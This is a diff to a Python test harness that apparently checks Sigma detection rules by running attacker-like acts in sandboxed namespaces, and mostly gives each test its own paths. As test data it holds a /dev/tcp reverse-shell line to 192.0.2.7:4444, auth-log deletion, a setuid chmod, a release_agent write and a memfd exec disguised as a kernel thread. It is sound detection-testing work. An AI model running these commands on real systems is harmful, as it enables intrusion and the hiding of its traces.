@@ -108,8 +108,9 @@ def apart():
 def act(code, *arguments):
     """Run Python in namespaces of its own.  Return: the pid that did what counts.
 
-    The code has `arguments`, put(path) for a copy of /bin/true, and play(path, argv), which
-    becomes that program in a child.  It tells the pid as its last line.
+    The code has `arguments`, put(path) for a copy of /bin/true, copy(program, path), and
+    play(path, argv), which becomes that program in a child; own(path) makes a path that no other
+    act has: a test beside this one does the same, and findings that are the same are folded.
     """
     prelude = """
 import ctypes, json, os, shutil, signal, socket, subprocess, sys, time
@@ -120,6 +121,14 @@ def put(path, data=true):
     with open(path, 'wb') as file:
         file.write(data)
     os.chmod(path, 0o755)
+def own(path):
+    for folder in '/tmp/', '/var/tmp/', '/dev/shm/', '/opt/':
+        if path.startswith(folder):
+            return folder + '%d/' % os.getpid() + path[len(folder):]
+    return '/mnt/%d' % os.getpid() + path
+def copy(program, path):
+    put(path, open(program, 'rb').read())
+    return path
 def wait(pid):
     os.waitpid(pid, 0)
     print(pid)
@@ -151,17 +160,16 @@ def child(function):
 
 PLAY = """
 for number, (image, line, parent) in enumerate(arguments):
-    # A folder for each, or those that differ in their arguments only might be folded.
-    path = image if image.startswith(('/tmp/', '/var/', '/dev/shm/', '/opt/')) else '/mnt/%d%s' % (number, image)
+    path = own(image if image.startswith(('/tmp/', '/var/', '/dev/shm/', '/opt/')) else '/%d%s' % (number, image))
     put(path)
     if not parent:
         play(path, line.split(' '))
         continue
     # A parent of that name: an interpreter under another one.
-    put('/mnt' + parent, open(sys.executable, 'rb').read())
+    parent = copy(sys.executable, own(parent))
     code = 'import os,sys\\npid=os.fork()\\nif not pid: os.execv(sys.argv[1], sys.argv[2:])\\nos.waitpid(pid,0)\\nprint(pid)'
     sys.stdout.flush()
-    print(int(subprocess.run(['/mnt' + parent, '-I', '-c', code, path, *line.split(' ')], stdout=subprocess.PIPE,
+    print(int(subprocess.run([parent, '-I', '-c', code, path, *line.split(' ')], stdout=subprocess.PIPE,
                              check=True, env={'PYTHONHOME': sys.prefix}).stdout))
 """
 
@@ -203,31 +211,31 @@ def exec_rules():
 
 # ---- the other rules ---------------------------------------------------------------------------------
 
-SHELL = "play('/bin/sh', ['sh', '-c', arguments[0]])"
 WRITE = "folder = os.path.dirname(arguments[0]); os.makedirs(folder, exist_ok=True); " + \
-        "play('/bin/sh', ['sh', '-c', 'echo x > ' + arguments[0]])"
+        "play(copy('/bin/sh', own('/writer')), ['sh', '-c', 'echo x > ' + arguments[0]])"
 MEMFD = """
 def become():
-    fd = os.memfd_create('x', 0)
+    fd = os.memfd_create('own%d' % os.getpid(), 0)
     os.write(fd, true)
     os.execve(fd, ['[kworker/0:1]'], {})
 child(become)
 """
 DELETED = """
-put('/opt/x')
+path = own('/opt/x')
+put(path)
 def become():
-    fd = os.open('/opt/x', os.O_RDONLY | os.O_CLOEXEC)
-    os.unlink('/opt/x')
+    fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
+    os.unlink(path)
     os.execve(fd, ['x'], {})
 child(become)
 """
-PRELOAD = "play('/bin/true', ['true'], {arguments[0]: arguments[1]})"
+PRELOAD = "play(copy('/bin/true', own('/true')), ['true'], {arguments[0]: arguments[1]})"
 SOCKET_SHELL = """
 a, b = socket.socketpair()
 def prepare():
     os.dup2(b.fileno(), 0)
     os.dup2(b.fileno(), 1)
-play('/bin/sh', ['sh', '-c', ':'], None, prepare if arguments[0] else lambda: None)
+play(copy('/bin/sh', own('/sh')), ['sh', '-c', ':'], None, prepare if arguments[0] else lambda: None)
 """
 POKE = """
 libc = ctypes.CDLL(None)
@@ -247,11 +255,10 @@ def poke():
     os.waitpid(pid, 0)
 child(poke)
 """
-CHMOD = "put('/tmp/sh'); child(lambda: os.chmod('/tmp/sh', arguments[0]))"
-UNLINK = "put(arguments[0]); child(lambda: os.unlink(arguments[0]))"
+CHMOD = "path = own('/tmp/sh'); put(path); child(lambda: os.chmod(path, arguments[0]))"
+UNLINK = "path = '%s.%d' % (arguments[0], os.getpid()); put(path); child(lambda: os.unlink(path))"
 CONNECT = """
-path = arguments[0]
-put(path, open(sys.executable, 'rb').read())
+path = copy(sys.executable, own(arguments[0]))
 play(path, [path, '-I', '-c', 'import socket\\ns=socket.socket()\\ns.settimeout(1)\\n' +
             'try: s.connect((%r, %d))\\nexcept OSError: pass' % tuple(arguments[1:])], {'PYTHONHOME': sys.prefix})
 """
@@ -262,8 +269,7 @@ def set_flags(name): fcntl.ioctl(s, 0x8914, struct.pack('16sH14x', name, 0x49))
 def set_address(name, ip): fcntl.ioctl(s, 0x8916, struct.pack('16sHH4s8x', name, 2, 0, socket.inet_aton(ip)))
 set_flags(b'lo')
 set_address(b'lo:1', '192.0.2.7')
-path = '/mnt/nc'
-put(path, open(sys.executable, 'rb').read())
+path = copy(sys.executable, own('/nc'))
 play(path, [path, '-I', '-c', 'import socket\\nl=socket.create_server((%r, 4444))\\nc=socket.create_connection((%r, 4444))\\nl.accept()'
             % (arguments[0], arguments[0])], {'PYTHONHOME': sys.prefix})
 """
@@ -287,9 +293,9 @@ ACTS = [
     ("f6414751-9935-4a67-b99f-c70f1747a812", WRITE, ["/opt/x/release_agent"], ["/opt/x/notify_on_release"]),
     ("78e89bda-b9d9-414b-8ad0-07f3e28b5b18", UNLINK, ["/var/log/auth.log"], ["/var/log/app/x.log"]),
     ("e3bf71df-27b4-403e-8646-d7c26d43375e", CHMOD, [0o4755], [0o755]),
-    ("183cd9d1-7d5e-4650-bf59-2e054a0b7202", CONNECT, ["/mnt/bash", "192.0.2.7", 4444], ["/mnt/bash", "192.0.2.53", 53]),
+    ("183cd9d1-7d5e-4650-bf59-2e054a0b7202", CONNECT, ["/bash", "192.0.2.7", 4444], ["/bash", "192.0.2.53", 53]),
     ("d5863b09-d141-4b58-93d3-5403a8c306a2", CONNECT, ["/tmp/x", "192.0.2.7", 443], ["/tmp/x", "127.0.0.1", 80]),
-    ("d3e3414f-14fc-424f-abdc-509ad2573642", CONNECT, ["/mnt/x", "192.0.2.7", 3333], ["/mnt/x", "10.1.2.3", 3333]),
+    ("d3e3414f-14fc-424f-abdc-509ad2573642", CONNECT, ["/x", "192.0.2.7", 3333], ["/x", "10.1.2.3", 3333]),
     ("db4c376b-3783-4600-8e22-cd8e3948fad1", ACCEPT, ["192.0.2.7"], ["127.0.0.1"]),
 ]
 
@@ -330,7 +336,7 @@ def members():
     equal(mine["matched"], {"CommandLine": line}, "matched")
     equal(mine["solution"], SIGMA, "solution")
     equal(mine["process"]["argv"], line.split(" "), "argv")
-    equal(mine["process"]["exe"], "/mnt/0/usr/bin/bash", "exe")
+    require(re.fullmatch(r"/mnt/\d+/0/usr/bin/bash", mine["process"]["exe"]), "exe:", mine["process"]["exe"])
     equal(mine["process"]["uid"], 0, "uid")
     require(any(os.path.basename(a).startswith("python") for a in mine["process"]["ancestors"]),
             "ancestors:", mine["process"].get("ancestors"))
@@ -371,9 +377,9 @@ def identity(number):
 
 
 LINKED = """
-put('/mnt/box/busybox')
-os.symlink('busybox', '/mnt/box/wget')
-play('/mnt/box/wget', ['wget', 'matched-as-%d' % os.getpid()])
+put(own('/box/busybox'))
+os.symlink('busybox', own('/box/wget'))
+play(own('/box/wget'), ['wget', 'matched-as-%d' % os.getpid()])
 play('/bin/sh', ['sh', '-c', ':', 'matched-as-%d' % os.getpid()])
 """
 # Fields of auditd: name, value, condition beside it, and the shell's words that cause it.
@@ -389,8 +395,8 @@ AUDITD = [
 
 def own_content():
     link = "CommandLine|contains: matched-as-"
-    texts = [rule(1, "the file", "Image", "/mnt/box/busybox", link), rule(2, "the link", "Image", "/mnt/box/wget", link),
-             rule(3, "either", "Image|startswith", "/mnt/box/", link),
+    texts = [rule(1, "the file", "Image|endswith", "/box/busybox", link), rule(2, "the link", "Image|endswith", "/box/wget", link),
+             rule(3, "either", "Image|contains", "/box/", link),
              rule(4, "dash", "Image|endswith", "/dash", link), rule(5, "sh", "Image", "/bin/sh", link)]
     texts += [rule(16 + i, f"auditd {i}", field, value, more, "{product: linux, service: auditd}")
               for i, (field, value, more, _) in enumerate(AUDITD)]
@@ -425,7 +431,7 @@ def matched_as():
 def folded():
     sigma = Sigma.get()
     rule_id, line = "22825647-d55f-4c69-b23f-ccd69c091527", "bash -c folded >& /dev/tcp/192.0.2.7/4444"
-    pids = act("put('/mnt/bash')\nfor i in range(20): play('/mnt/bash', arguments)", *line.split(" "))
+    pids = act("path = own('/bash')\nput(path)\nfor i in range(20): play(path, arguments)", *line.split(" "))
     equal(len(pids), 20, "acts")
 
     def told():
